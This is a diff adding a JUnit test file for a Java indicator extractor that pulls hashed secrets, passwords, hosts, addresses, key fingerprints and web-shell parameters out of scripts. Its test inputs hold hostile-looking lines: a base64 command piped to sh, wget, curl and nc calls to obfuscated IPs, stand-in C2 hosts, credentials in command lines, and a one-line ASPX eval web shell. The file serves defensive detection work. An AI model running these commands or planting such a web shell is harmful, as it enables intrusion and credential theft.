@@ -1,0 +1,96 @@
+package bzh.vigie.observable;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import bzh.vigie.observable.Observables.Kind;
+import java.nio.charset.StandardCharsets;
+import java.util.Base64;
+import java.util.List;
+import java.util.Random;
+import java.util.stream.Collectors;
+import java.util.stream.IntStream;
+import org.junit.jupiter.api.Test;
+
+/** Digests are those of sha256sum, addresses those of inet_aton(3) in glibc, GitHub's key and its fingerprint as GitHub publishes them. */
+final class ObservablesTest {
+    private static final String TOKEN = "2aVbNcXzLk7JhGfDsApOi4UyTrEwQ";
+    private static final String DIGEST_OF_TOKEN = "08fba5e7ac17";
+    private static final String DIGEST_OF_PASSWORD = "97085c9fafa4";
+
+    @Test
+    void aSecretLeavesTheTextAsItsDigestOnly() {
+        for (String script : List.of(
+                "#!/bin/sh\n/opt/t/n http 80 --authtoken " + TOKEN + "\n",
+                "TUNNEL=\"" + TOKEN + "\"\nexec t run\n",
+                "echo " + base64("n --authtoken=" + TOKEN) + " | base64 -d | sh",
+                TOKEN)) {
+            List<String> found = Observables.of(List.of(script));
+            assertTrue(Observables.values(found, Kind.SECRET).contains(DIGEST_OF_TOKEN), script);
+            assertFalse(found.toString().contains(TOKEN), found.toString());
+        }
+        for (String script : List.of(
+                "sshpass -p 'Wq8nZt4K2v' scp a b:",
+                "curl -u op:Wq8nZt4K2v x",
+                "PGPASSWORD=Wq8nZt4K2v psql",
+                "curl -T f ftp://op:Wq8nZt4K2v@203.0.113.4/")) {
+            List<String> found = Observables.of(List.of(script));
+            assertEquals(List.of(DIGEST_OF_PASSWORD), Observables.values(found, Kind.PASSWORD), script);
+            assertFalse(found.toString().contains("Wq8nZt4K2v"), found.toString());
+        }
+    }
+
+    @Test
+    void addressesAndHostsAreToldInTheirUsualWriting() {
+        assertEquals(
+                List.of("address=203.0.113.66", "host=c2.mallory.example", "host=x.evil.test"),
+                Observables.of(List.of(
+                        "wget http://0xCB007142/a; curl http://3405803842/b; nc 0313.0.0161.0102 9",
+                        "h = 'c2.mallory.example'; u = \"https://x.evil.test/p\"")));
+        assertEquals(
+                List.of("key=SHA256:+DiY3wvvV6TuJJhbpZisF/zLDA0zPMSvHdkr4UvCOqU", "path=/dev/shm/.k"),
+                Observables.of(
+                        List.of("echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl"
+                                + " > /dev/shm/.k")));
+        assertEquals(
+                List.of("parameter=klk123456"),
+                Observables.of(
+                        List.of("<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"klk123456\"],\"unsafe\");%>")));
+    }
+
+    /** Names of code, numbers, keys of private nature, digests of nothing: a script has many of these. */
+    @Test
+    void codeIsNoObservable() {
+        assertEquals(
+                List.of(),
+                Observables.of(
+                        List.of(
+                                "import os.path\nself.logger.info(x.name)\nsys.stdout.write(json.dumps(a.id))\n",
+                                "import java.net.*; using System.Net; document.location = window.name; Request.Item; foo.run(); app.io",
+                                "sha256WithRSAEncryption Utf8ToIso88591Converter(x) TLS_AES_128_GCM_SHA256",
+                                "date +%s > 1700000000; chmod 755 a; version 1.2.3",
+                                "d41d8cd98f00b204e9800998ecf8427e",
+                                "id 7c9e6679-7425-40de-944b-e07fc1f90ae7",
+                                "ping 127.0.0.1 192.168.1.4 10.0.0.1",
+                                "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAAB\n"
+                                        + "AAAAMwAAAAtzc2gtZWQyNTUxOQAAACDc9kPj1mXo5Qm3T7xkq2Rr\n-----END OPENSSH PRIVATE KEY-----")));
+    }
+
+    @Test
+    void hostileTextIsBounded() {
+        Random random = new Random(30);
+        String all = IntStream.range(0, 20_000)
+                .mapToObj(i -> "x" + i + ".evil.example " + Long.toString(random.nextLong(), 36) + "aZ9kQ2 ")
+                .collect(Collectors.joining());
+        List<String> found =
+                Observables.of(List.of(all, "%".repeat(100_000), "A1b".repeat(100_000), "$_GET[".repeat(9_999)));
+        assertTrue(found.size() <= Observables.MOST, found.size() + " of them");
+        assertTrue(found.stream().allMatch(each -> each.length() <= 300));
+        assertEquals(found, Observables.of(List.of(all, "%".repeat(100_000), "A1b".repeat(100_000))), "in one order");
+    }
+
+    private static String base64(String text) {
+        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
+    }
+}
